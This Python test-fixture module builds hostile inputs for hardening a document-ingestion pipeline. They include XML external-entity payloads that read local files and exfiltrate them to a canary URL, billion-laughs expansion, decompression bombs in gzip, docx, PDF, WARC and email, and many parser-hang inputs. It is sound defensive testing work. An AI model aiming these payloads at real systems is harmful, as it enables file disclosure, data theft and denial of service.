"""Inputs made to harm: XML attacks, decompression bombs, inputs that keep a parser busy.

Nothing here hurts outside its reader: canaries are a file and a local server that the caller names. Used in small by
the tests and in full by `python bench/hostile.py`.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from . import archives, web_pages

MILLION = 1_000_000
PROSE = "The bridge will stay closed until the spring, said Mara Voss, the harbour master of Ambrel, on Tuesday. "


@dataclass(frozen=True)
class Attack:
    """One hostile file. `make` is called when it is needed, as some are large."""

    name: str
    suffix: str
    make: Callable[[], bytes]


def xml_attacks(canary_file: str, canary_url: str) -> Iterator[Attack]:
    """Documents that expand, include, fetch, disclose or choke; in NITF, RSS and bare XML."""
    for name, source in _xml(canary_file, canary_url):
        body = source if isinstance(source, bytes) else source.encode("utf-8", "surrogatepass")
        yield Attack(f"xml-{name}", ".xml", lambda body=body: body)  # type: ignore[misc] # bound now


def _nitf(text: str, subset: str = "", head: str = "") -> str:
    doctype = f"<!DOCTYPE nitf {subset}>" if subset else ""
    return (
        f"<?xml version='1.0' encoding='UTF-8'?>{head}{doctype}<nitf><head><title>Dam</title></head><body><body.head>"
        f"<hedline><hl1>Dam holds</hl1></hedline></body.head><body.content><p>{PROSE}</p><p>{text}</p></body.content>"
        "</body></nitf>"
    )


def _rss(text: str, subset: str = "") -> str:
    doctype = f"<!DOCTYPE rss {subset}>" if subset else ""
    return (
        f"<?xml version='1.0'?>{doctype}<rss version='2.0'><channel><title>Post</title><item><title>Dam</title><link>"
        f"https://ambrelpost.example/1</link><description>{PROSE * 5}{text}</description></item></channel></rss>"
    )


def _xml(file: str, url: str) -> Iterator[tuple[str, str | bytes]]:
    laughs = "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 10))
    for name, wrap in (("nitf", _nitf), ("rss", _rss)):
        yield f"laughs-{name}", wrap("&l9;", f"[<!ENTITY l0 'lol'>{laughs}]")
        yield f"quadratic-{name}", wrap("&a;" * 20_000, f"[<!ENTITY a '{'x' * 50_000}'>]")
        yield f"entity-in-attribute-{name}", wrap("<em class='&a;'>x</em>", "[<!ENTITY a 'y'>]")
        yield f"self-entity-{name}", wrap("&a;", "[<!ENTITY a '&a;'>]")
        yield f"ring-{name}", wrap("&a;", "[<!ENTITY a '&b;'><!ENTITY b '&a;'>]")
        for scheme in (f"file://{file}", file, f"{url}/entity", f"ftp://127.0.0.1/{name}", f"jar:{url}!/a",
                       "php://filter/read=convert.base64-encode/resource=a", "expect://id", f"netdoc:{file}",
                       f"{url.replace('http', 'https')}/x"):  # fmt: skip
            yield f"external-{name}-{scheme[:9]}", wrap("&a;", f"[<!ENTITY a SYSTEM '{scheme}'>]")
        yield f"public-entity-{name}", wrap("&a;", f"[<!ENTITY a PUBLIC 'x' '{url}/public'>]")
        yield f"parameter-{name}", wrap("&a;", f"[<!ENTITY % p SYSTEM '{url}/parameter'> %p;]")
        yield f"parameter-inside-{name}", wrap("x", "[<!ENTITY % p '<!ENTITY &#37; q \"z\">'> %p;]")
        yield f"parameter-laughs-{name}", wrap("x", "[<!ENTITY % a 'x'><!ENTITY % b '%a;%a;%a;%a;'> %b;]")
        yield (
            f"exfiltration-{name}",
            wrap(
                "&send;",
                f"[<!ENTITY % f SYSTEM 'file://{file}'><!ENTITY % all \"<!ENTITY send SYSTEM '{url}/?%f;'>\"> %all;]",
            ),
        )
        yield f"external-dtd-{name}", wrap("&a;", f"SYSTEM '{url}/evil.dtd'")
        yield f"external-dtd-file-{name}", wrap("&a;", f"SYSTEM 'file://{file}'")
        yield f"public-dtd-{name}", wrap("x", f"PUBLIC '-//X//EN' '{url}/public.dtd'")
        yield f"attribute-default-{name}", wrap("<p/>" * 5_000, f"[<!ATTLIST p a CDATA '{'x' * 100_000}'>]")
        yield (
            f"notation-{name}",
            wrap("x", f"[<!NOTATION n SYSTEM '{url}/notation'><!ENTITY u SYSTEM '{url}/u' NDATA n>]"),
        )
        yield f"unparsed-{name}", wrap("&undeclared;")
    include = "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='{}' parse='text'/>"
    yield "xinclude-file", _nitf(include.format(f"file://{file}"))
    yield "xinclude-url", _nitf(include.format(f"{url}/xinclude"))
    yield "stylesheet", _nitf("x", head=f"<?xml-stylesheet type='text/xsl' href='{url}/style.xsl'?>")
    yield (
        "schema-location",
        _nitf("x").replace(
            "<nitf>",
            f"<nitf xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' xsi:noNamespaceSchemaLocation='{url}/s.xsd'>",
        ),
    )
    yield "xml-base", _rss("x").replace("<channel>", f"<channel xml:base='{url}/base/'>")
    yield "svg-image", _rss(f"&lt;img src='{url}/img'&gt;&lt;script src='{url}/js'&gt;&lt;/script&gt;")
    yield "cdata-script", _nitf(f"<![CDATA[<img src='{url}/cdata'><!ENTITY a SYSTEM 'file://{file}'>]]>")
    yield (
        "xslt",
        (
            "<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'><xsl:template match='/'>"
            f"<xsl:value-of select=\"document('{url}/xslt')\"/></xsl:template></xsl:stylesheet>"
        ),
    )
    yield "attributes", _nitf("<em " + " ".join(f"a{n}='1'" for n in range(300_000)) + "/>")
    yield "same-attributes", _nitf("<em " + "a='1' " * 100_000 + "/>")
    yield "namespaces", _nitf("<em " + " ".join(f"xmlns:a{n}='u:{n}'" for n in range(200_000)) + "/>")
    yield "deep", _nitf("<em>" * 100_000 + "x" + "</em>" * 100_000)
    yield "deep-unclosed", _nitf("<em>" * 300_000)
    yield "wide", _nitf("<em/>" * 2 * MILLION)
    yield "comments", _nitf("<!-- -->" * MILLION)
    yield "comment-unclosed", _nitf("<!-- " + "- " * MILLION)
    yield "doctype-comments", _nitf("x", "[" + "<!--" * 500_000 + "]")
    yield "doctype-unclosed", "<!DOCTYPE nitf [" + "<!ELEMENT a ANY>" * 200_000
    yield "doctype-quotes", "<!DOCTYPE nitf " + "\"'" * 500_000 + ">"
    yield "instructions", _nitf("<?a b?>" * MILLION)
    yield "cdata", _nitf("<![CDATA[x]]>" * 500_000)
    yield "long-name", _nitf(f"<{'n' * 200_000}/>")
    yield "long-attribute", _nitf(f"<em a='{'v' * 12 * MILLION}'/>")
    yield "long-text", _nitf("x" * 12 * MILLION)
    yield "references", _nitf("&#120;" * 2 * MILLION)
    yield "null-reference", _nitf("&#0;&#xFFFE;&#x110000;")
    yield "utf7", (
        b"<?xml version='1.0' encoding='UTF-7'?>+ADwAIQ-DOCTYPE r +AFsAPA-!ENTITY a SYSTEM 'file://"
        + file.encode() + b"'+AD4AXQA+-+ADw-nitf+AD4-+ACY-a+ADsAPA-/nitf+AD4-"
    )  # fmt: skip
    hidden = _nitf("&a;", f"[<!ENTITY a SYSTEM 'file://{file}'>]")
    for encoding in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "cp037", "utf-8-sig"):
        yield f"encoded-{encoding}", hidden.replace("UTF-8", encoding.upper()).encode(encoding)
    for lie in (
        "utf-16",
        "utf-7",
        "zlib",
        "punycode",
        "idna",
        "unicode_escape",
        "rot13",
        "base64",
        "undefined",
        "x" * 30,
    ):
        yield f"lie-{lie}", hidden.replace("UTF-8", lie).encode() + b"<!-- \xff\xfe\x80 -->"
    yield "late-doctype", _nitf("x") + f"<!DOCTYPE nitf [<!ENTITY a SYSTEM 'file://{file}'>]>"
    yield "two-doctypes", _nitf("x", "SYSTEM 'a'>" + f"<!DOCTYPE nitf [<!ENTITY a SYSTEM 'file://{file}'>]")
    yield "doctype-in-comment", _nitf("&a;", head=f"<!-- <!DOCTYPE nitf [ --><!DOCTYPE x [<!ENTITY a '{file}'>]>")
    yield "lower-doctype", _nitf("&a;").replace("<nitf>", f"<!doctype nitf [<!ENTITY a SYSTEM 'file://{file}'>]><nitf>")
    yield (
        "html-page",
        f"<?xml version='1.0'?><!DOCTYPE html [<!ENTITY a SYSTEM 'file://{file}'>]><html><p>&a;</p></html>",
    )


def _zip(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as written:
        for name, body in entries.items():
            written.writestr(name, body)
    return out.getvalue()


_TYPES = (
    b"<?xml version='1.0'?><Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'><Override "
    b"PartName='/word/document.xml' ContentType='application/vnd.openxmlformats-officedocument.wordprocessingml."
    b"document.main+xml'/></Types>"
)
_RELATIONS = (
    b"<?xml version='1.0'?><Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'><Relation"
    b"ship Id='r1' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument' "
    b"Target='word/document.xml'/></Relationships>"
)


def docx(document: bytes, **more: bytes) -> bytes:
    """A Word document with this main part, and other parts under their names."""
    return _zip({"[Content_Types].xml": _TYPES, "_rels/.rels": _RELATIONS, "word/document.xml": document, **more})


def _document(inner: bytes, prolog: bytes = b"") -> bytes:
    return (
        b"<?xml version='1.0'?>" + prolog + b"<w:document xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/"
        b"2006/main'><w:body>" + inner + b"</w:body></w:document>"
    )  # fmt: skip


def pdf(stream: bytes, filters: str = "/FlateDecode", extra: str = "") -> bytes:
    """A one-page PDF whose content is this packed stream."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R /Resources << /Font << /F1 << "
        b"/Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> /XObject << /X 5 0 R >> >> " + extra.encode() + b" >>",
        b"<< /Length %d /Filter %b >>\nstream\n%b\nendstream" % (len(stream), filters.encode(), stream),
        b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >> /Length 5 >>\n"
        b"stream\n/X Do\nendstream",
    ]  # fmt: skip
    out = b"%PDF-1.7\n"
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    return out + b"xref\n0 6\n0000000000 65535 f \n%btrailer << /Size 6 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        table, len(out),
    )  # fmt: skip


def _letter(body: bytes, media: str = "text/plain", coding: str = "base64", more: str = "") -> bytes:
    head = (
        "From: mara@ambrel.example\r\nTo: desk@ambrelpost.example\r\nSubject: The dam\r\nDate: Sat, 1 Mar 2025 "
        f"06:00:00 +0000\r\nMIME-Version: 1.0\r\nContent-Type: {media}\r\nContent-Transfer-Encoding: {coding}\r\n"
        f"{more}\r\n"
    )
    return head.encode() + body


def zeros(size: int) -> bytes:
    return bytes(size)


def spaces(size: int) -> bytes:
    return b" " * size


def bombs() -> Iterator[Attack]:
    """Small files that are large when unpacked."""

    def attack(name: str, suffix: str, make: Callable[[], bytes]) -> Attack:
        return Attack(f"bomb-{name}", suffix, make)

    for suffix in (".txt.gz", ".html.gz", ".jsonl.gz", ".xml.gz", ".md.gz", ".rss.gz"):
        yield attack(f"gzip{suffix}", suffix, lambda: gzip.compress(spaces(300 * MILLION), 9))
    yield attack("gzip-page", ".html", lambda: gzip.compress(b"<html><body>" + b"<p>x" * 30 * MILLION, 9))
    yield attack("gzip-members", ".txt.gz", lambda: gzip.compress(spaces(10 * MILLION), 9) * 40)
    yield attack("gzip-empty-members", ".txt.gz", lambda: gzip.compress(b"") * 400_000)
    yield attack("gzip-nested", ".txt.gz", lambda: gzip.compress(gzip.compress(gzip.compress(zeros(500 * MILLION)))))
    yield attack("gzip-line", ".jsonl.gz", lambda: gzip.compress(b'{"text": "' + b"x" * 300 * MILLION + b'"}', 9))
    yield attack("bzip2", ".txt", lambda: bz2.compress(zeros(100 * MILLION)))
    yield attack("xz", ".txt", lambda: lzma.compress(zeros(100 * MILLION)))
    yield attack("zlib", ".txt", lambda: zlib.compress(zeros(100 * MILLION)))
    yield attack("zip", ".zip", lambda: _zip({"a.txt": zeros(200 * MILLION)}))
    yield attack("docx-part", ".docx", lambda: docx(_document(b"<w:p/>" * 40 * MILLION)))
    yield attack(
        "docx-text",
        ".docx",
        lambda: docx(_document(b"<w:p><w:r><w:t>" + spaces(300 * MILLION) + b"</w:t></w:r></w:p>")),
    )
    yield attack("docx-entities", ".docx", lambda: docx(_document(b"&a;" * 9, b"<!DOCTYPE w [<!ENTITY a 'aaaa'>]>")))
    yield attack(
        "docx-many-parts", ".docx", lambda: docx(_document(b""), **{f"word/p{n}.xml": b"x" for n in range(20_000)})
    )
    yield attack(
        "docx-beside", ".docx", lambda: docx(_document(b"<w:p/>"), **{"word/media/a.png": zeros(300 * MILLION)})
    )
    yield attack(
        "docx-rels",
        ".docx",
        lambda: docx(_document(b"<w:p/>"), **{"word/_rels/document.xml.rels": zeros(300 * MILLION)}),
    )
    yield attack(
        "docx-core", ".docx", lambda: docx(_document(b"<w:p/>"), **{"docProps/core.xml": spaces(300 * MILLION)})
    )
    yield attack("pdf-stream", ".pdf", lambda: pdf(zlib.compress(spaces(500 * MILLION), 9)))
    yield attack("pdf-text", ".pdf", lambda: pdf(zlib.compress(b"BT /F1 9 Tf (x) Tj ET\n" * 5 * MILLION, 9)))
    yield attack(
        "pdf-nested",
        ".pdf",
        lambda: pdf(zlib.compress(zlib.compress(spaces(500 * MILLION), 9)), "[/FlateDecode /FlateDecode]"),
    )
    yield attack(
        "pdf-runs", ".pdf", lambda: pdf(zlib.compress(b"\x81 " * 5 * MILLION), "[/FlateDecode /RunLengthDecode]")
    )
    yield attack("pdf-lzw", ".pdf", lambda: pdf(b"\x80\x0b\x60\x50" * MILLION, "/LZWDecode"))
    for number in (1, 3):
        yield attack(
            f"warc-member-{number}", ".warc.gz",
            lambda: archives.archive([archives.response(1, spaces(200 * MILLION)), archives.response(2)]),
        )  # fmt: skip
    yield attack(
        "warc-coding", ".warc.gz",
        lambda: archives.archive(
            [archives.response(1, gzip.compress(spaces(300 * MILLION)), status="200 OK\r\nContent-Encoding: gzip")]
        ),
    )  # fmt: skip
    yield attack("warc-header", ".warc.gz", lambda: gzip.compress(b"WARC/1.0\r\nA: " + spaces(300 * MILLION)))
    yield attack("warc-tail", ".warc.gz", lambda: gzip.compress(archives.response(1) + spaces(300 * MILLION)))
    yield attack(
        "mail-gzip",
        ".eml",
        lambda: _letter(base64.encodebytes(gzip.compress(spaces(200 * MILLION))), "application/gzip"),
    )
    yield attack("mail-docx", ".eml", lambda: _letter(
        base64.encodebytes(docx(_document(b"<w:p/>" * 40 * MILLION))),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document; name=a.docx",
    ))  # fmt: skip
    yield attack("mail-pdf", ".eml", lambda: _letter(
        base64.encodebytes(pdf(zlib.compress(spaces(500 * MILLION), 9))), "application/pdf; name=a.pdf"
    ))  # fmt: skip
    yield attack("png", ".txt", lambda: b"\x89PNG\r\n\x1a\n" + zlib.compress(zeros(100 * MILLION)))
    yield attack("svg", ".xml", lambda: gzip.compress(b"<svg>" + b"<g>" * 10 * MILLION))
    yield attack("page-in-feed", ".rss", lambda: _rss("&lt;b&gt;" * 2 * MILLION).encode())


def hangs() -> Iterator[Attack]:
    """Inputs that make parsers slow, deep or large."""
    for name, suffix, make in _HANGS:
        yield Attack(f"hang-{name}", suffix, make)


def _html(body: str, head: str = "") -> bytes:
    return f"<!doctype html><html><head><title>Dam</title>{head}</head><body>{body}</body></html>".encode()


def _paragraphs() -> str:
    return web_pages.paragraphs(5)


def _nested_mail(depth: int) -> bytes:
    body = _letter(b"The dam holds.\r\n", coding="7bit")
    for number in range(depth):
        mark = f"b{number}"
        head = f"Content-Type: multipart/mixed; boundary={mark}\r\n\r\n--{mark}\r\nContent-Type: message/rfc822\r\n\r\n"
        body = (
            b"From: a@b.example\r\nTo: c@d.example\r\nDate: Sat, 1 Mar 2025 06:00:00 +0000\r\n" + head.encode() + body
        )
    return body


def _json(value: object) -> bytes:
    return json.dumps(value).encode()


_HANGS: tuple[tuple[str, str, Callable[[], bytes]], ...] = (
    ("deep-html", ".html", lambda: _html("<div>" * 100_000 + _paragraphs())),
    ("deep-quotes", ".html", lambda: _html("<blockquote><p>x " * 30_000)),
    ("deep-lists", ".html", lambda: _html("<ul><li>x" * 30_000)),
    ("deep-fonts", ".html", lambda: _html("<font><b><i>" * 30_000 + _paragraphs())),
    ("misnested", ".html", lambda: _html("<a><table><b><form><i><p>" * 10_000)),
    ("attributes", ".html", lambda: _html("<p " + " ".join(f"a{n}=1" for n in range(300_000)) + ">x</p>")),
    ("attribute-long", ".html", lambda: _html(f"<p title='{'x' * 20 * MILLION}'>x</p>" + _paragraphs())),
    ("attribute-unclosed", ".html", lambda: _html("<p a='" * 300_000)),
    ("tags-open", ".html", lambda: _html("<" * 5 * MILLION)),
    ("tags-cut", ".html", lambda: _html("<a href=" * MILLION)),
    ("comments", ".html", lambda: _html("<!--" * 2 * MILLION)),
    ("comment-dashes", ".html", lambda: _html("<!--" + "-" * 10 * MILLION)),
    ("scripts", ".html", lambda: _html("<script>" * 500_000)),
    ("styles", ".html", lambda: _html("<style>a{}</style>" * 500_000 + _paragraphs())),
    (
        "table",
        ".html",
        lambda: _html("<table>" + "<tr>" + "<td>x" * 50 + "</tr>" * 1 + "<tr><td>y" * 50_000 + "</table>"),
    ),
    ("tables-nested", ".html", lambda: _html("<table><tr><td>" * 5_000 + _paragraphs())),
    ("paragraphs", ".html", lambda: _html("<p>The dam holds.</p>" * 50_000)),
    ("paragraphs-59000", ".html", lambda: _html(f"<p>{PROSE}</p>" * 19_000)),
    ("links", ".html", lambda: _html("<a href='/x'>Another story of the day</a>" * 50_000 + _paragraphs())),
    ("entities", ".html", lambda: _html("&amp;" * 3 * MILLION)),
    ("one-paragraph", ".html", lambda: _html("<p>" + PROSE * 15_000 + "</p>")),
    ("one-word", ".html", lambda: _html("<p>" + "x" * 1_900_000 + "</p>")),
    ("breaks", ".html", lambda: _html("x<br>" * 29_000)),
    ("spaces", ".html", lambda: _html("<p>" + " \n" * 5 * MILLION + "x</p>" + _paragraphs())),
    ("metas", ".html", lambda: _html(_paragraphs(), "<meta name='a' content='b'>" * 50_000)),
    (
        "linked-data-deep",
        ".html",
        lambda: _html(
            _paragraphs(), "<script type='application/ld+json'>" + "[" * 100_000 + "]" * 100_000 + "</script>"
        ),
    ),
    (
        "linked-data-ring",
        ".html",
        lambda: _html(
            _paragraphs(),
            "<script type='application/ld+json'>"
            + json.dumps(
                {
                    "@graph": [
                        {"@id": f"#{n}", "@type": "NewsArticle", "author": {"@id": f"#{(n + 1) % 9}"}} for n in range(9)
                    ]
                }
            )
            + "</script>",
        ),
    ),
    (
        "linked-data-many",
        ".html",
        lambda: _html(_paragraphs(), '<script type=\'application/ld+json\'>{"@type":"NewsArticle"}</script>' * 9_000),
    ),
    (
        "linked-data-number",
        ".html",
        lambda: _html(_paragraphs(), "<script type='application/ld+json'>{\"a\": " + "9" * 100_000 + "}</script>"),
    ),
    (
        "date-long",
        ".html",
        lambda: _html(_paragraphs(), f"<meta property='article:published_time' content='{'2025-' * 200_000}'>"),
    ),
    (
        "date-digits",
        ".html",
        lambda: _html(_paragraphs(), f"<meta property='article:published_time' content='{'1' * 500_000}'>"),
    ),
    ("author-commas", ".html", lambda: _html(_paragraphs(), f"<meta name='author' content='{'A, and ' * 200_000}'>")),
    ("author-spaces", ".html", lambda: _html(_paragraphs(), f"<meta name='author' content='By{' ' * 500_000}x'>")),
    ("title-long", ".html", lambda: _html(_paragraphs()).replace(b"Dam<", b"Dam - | : " * 200_000 + b"<")),
    ("charset-names", ".html", lambda: b"<meta charset=" * 300 + b"idna><p>\xff" + _html(_paragraphs())),
    ("cookie-words", ".html", lambda: _html("<p>" + "we use cookies to " * 90_000 + "</p>")),
    ("combining", ".txt", lambda: ("a" + "\u0301" * 900_000).encode()),
    ("bidi", ".txt", lambda: ("\u202e\u2066" * 400_000 + PROSE).encode()),
    ("zero-width", ".txt", lambda: ("\u200b" * 900_000 + PROSE).encode()),
    ("surrogates", ".jsonl", lambda: b'{"text": "' + b"\\ud800\\udc00\\ud800" * 100_000 + b' x"}\n'),
    ("no-encoding", ".txt", lambda: bytes(range(128, 256)) * 70_000),
    ("no-encoding-long", ".txt", lambda: b"\xe9\x81 \xfd\xa0x " * 3 * MILLION),
    ("half-utf8", ".html", lambda: _html(_paragraphs()) + b"\xc3\x28 " * 3 * MILLION),
    ("one-line", ".txt", lambda: b"a" * 999_999),
    ("lines-short", ".jsonl", lambda: b"{}\n" * 300_000),
    ("lines-empty", ".jsonl", lambda: b"\n" * 20 * MILLION),
    ("line-deep", ".jsonl", lambda: b'{"text": ' + b"[" * 7 * MILLION),
    ("line-number", ".jsonl", lambda: b'{"text": ' + b"1" * 10 * MILLION + b"}"),
    ("line-keys", ".jsonl", lambda: b"{" + b",".join(b'"%d":0' % n for n in range(MILLION)) + b"}"),
    ("line-open", ".jsonl", lambda: b'{"text": "' * 1_500_000),
    ("json-deep", ".json", lambda: b'{"uri":"a","version":"1","type":"text","body_html":' + b"[" * 5 * MILLION),
    (
        "ninjs-html",
        ".json",
        lambda: _json(
            {
                "uri": "urn:a",
                "type": "text",
                "versioncreated": "2025-03-01T06:00:00Z",
                "headline": "Dam",
                "body_html": "<div>" * 200_000 + PROSE,
            }
        ),
    ),
    (
        "ninjs-entries",
        ".json",
        lambda: _json(
            [{"uri": f"urn:{n}", "type": "text", "headline": "Dam", "body_text": PROSE} for n in range(30_000)]
        ),
    ),
    (
        "feed-entries",
        ".rss",
        lambda: (
            "<rss version='2.0'><channel><title>x</title>"
            + f"<item><title>a</title><description>{PROSE * 3}</description></item>" * 20_000
            + "</channel></rss>"
        ).encode(),
    ),
    (
        "feed-dates",
        ".rss",
        lambda: _rss("x").replace("<item>", "<item><pubDate>" + "Sat, 1 " * 100_000 + "</pubDate>").encode(),
    ),
    ("feed-deep-html", ".rss", lambda: _rss("&lt;div&gt;" * 100_000).encode()),
    ("markdown-quotes", ".md", lambda: (">" * 50_000 + " x\n").encode() * 10),
    ("markdown-emphasis", ".md", lambda: ("*a_ " * 200_000).encode()),
    ("markdown-stars", ".md", lambda: ("**" * 300_000 + "a").encode()),
    ("markdown-brackets", ".md", lambda: ("[" * 100_000 + "](" * 100_000).encode()),
    ("markdown-images", ".md", lambda: ("![a](" * 100_000).encode()),
    ("markdown-ticks", ".md", lambda: "".join("`" * n + " " for n in range(1, 1_300)).encode()),
    ("markdown-lists", ".md", lambda: "".join(" " * (2 * n) + "- x\n" for n in range(900)).encode()),
    ("markdown-references", ".md", lambda: "".join(f"[a{n}]: http://x\n[a{n}]\n" for n in range(20_000)).encode()),
    (
        "markdown-table",
        ".md",
        lambda: ("|a" * 1_000 + "|\n" + "|-" * 1_000 + "|\n" + ("|b" * 1_000 + "|\n") * 300).encode(),
    ),
    ("markdown-entities", ".md", lambda: ("&" * 500_000 + "&#x" * 200_000).encode()),
    ("markdown-html", ".md", lambda: ('<a b="' * 100_000 + "<!--" * 50_000).encode()),
    ("markdown-front", ".md", lambda: ("---\n" + "title: " + "[" * 500_000 + "\n---\nx").encode()),
    ("mail-nested", ".eml", lambda: _nested_mail(800)),
    (
        "mail-parts",
        ".eml",
        lambda: _letter(
            b"".join(b"--b\r\nContent-Type: text/plain\r\n\r\nx\r\n" for _ in range(60_000)) + b"--b--",
            "multipart/mixed; boundary=b",
            "7bit",
        ),
    ),
    ("mail-headers", ".eml", lambda: b"From: a@b.example\r\n" + b"X-A: b\r\n" * 300_000 + b"\r\n" + PROSE.encode()),
    ("mail-header-long", ".eml", lambda: b"From: " + b"a@b.example, " * 300_000 + b"\r\nTo: x@y.example\r\n\r\nx"),
    ("mail-words", ".eml", lambda: b"From: a@b.example\r\nSubject: " + b"=?utf-8?q?a?= " * 100_000 + b"\r\n\r\nx"),
    ("mail-parameters", ".eml", lambda: _letter(b"x", "text/plain" + "; a*0*=b" * 50_000, "7bit")),
    (
        "mail-comments",
        ".eml",
        lambda: b"From: " + b"(" * 100_000 + b"a@b.example\r\nDate: " + b"(" * 100_000 + b"\r\n\r\nx",
    ),
    ("mail-quoted", ".eml", lambda: _letter(b"=\r\n" * MILLION + b"x", coding="quoted-printable")),
    ("mail-html", ".eml", lambda: _letter(b"<div>" * 300_000, "text/html", "7bit")),
    ("mail-replies", ".eml", lambda: _letter(b">" * 3 * MILLION + b"\r\n" + b"> x\r\n" * 100_000, coding="7bit")),
    ("pdf-form-loop", ".pdf", lambda: pdf(zlib.compress(b"/X Do " * 100_000))),
    ("pdf-pages-loop", ".pdf", lambda: pdf(zlib.compress(b"BT ET")).replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]")),
    ("pdf-count", ".pdf", lambda: pdf(zlib.compress(b"BT ET")).replace(b"/Count 1", b"/Count 99999999")),
    ("pdf-brackets", ".pdf", lambda: pdf(zlib.compress(b"[" * 5 * MILLION))),
    ("pdf-length-loop", ".pdf", lambda: pdf(zlib.compress(b"BT ET")).replace(b"/Length ", b"/Length 4 0 R /L ")),
    ("pdf-no-table", ".pdf", lambda: b"%PDF-1.7\n" + b"1 0 obj << /A 1 0 R >> endobj\n" * 300_000),
    (
        "docx-nested",
        ".docx",
        lambda: docx(_document(b"<w:tbl><w:tr><w:tc>" * 80 + b"<w:p/>" + b"</w:tc></w:tr></w:tbl>" * 80)),
    ),
    ("docx-runs", ".docx", lambda: docx(_document(b"<w:p>" + b"<w:r><w:t>x</w:t></w:r>" * 90_000 + b"</w:p>"))),
    ("warc-tiny", ".warc", lambda: b"WARC/1.0\r\nContent-Length: 0\r\n\r\n\r\n\r\n" * 100_000),
    ("warc-broken", ".warc", lambda: b"WARC/1.0\r\n\r\n\r\n" * 500_000),
    (
        "warc-lengths",
        ".warc",
        lambda: b"WARC/1.0\r\nWARC-Type: response\r\nContent-Length: 999999999\r\n\r\n\r\n\r\n" * 90_000,
    ),
    ("warc-members", ".warc.gz", lambda: gzip.compress(b"WARC/", 0)[:15] * 1_000_000),
    (
        "warc-chunks",
        ".warc.gz",
        lambda: archives.archive(
            [
                archives.response(
                    1, b"1\r\nx\r\n" * 500_000 + b"0\r\n\r\n", status="200 OK\r\nTransfer-Encoding: chunked"
                )
            ]
        ),
    ),
    ("nitf-tables", ".xml", lambda: _nitf("<table>" + "<tr><td>x</td></tr>" * 90_000 + "</table>").encode()),
    ("nitf-nested", ".xml", lambda: _nitf("<block>" * 120 + "<p>x</p>" * 50_000 + "</block>" * 120).encode()),
)
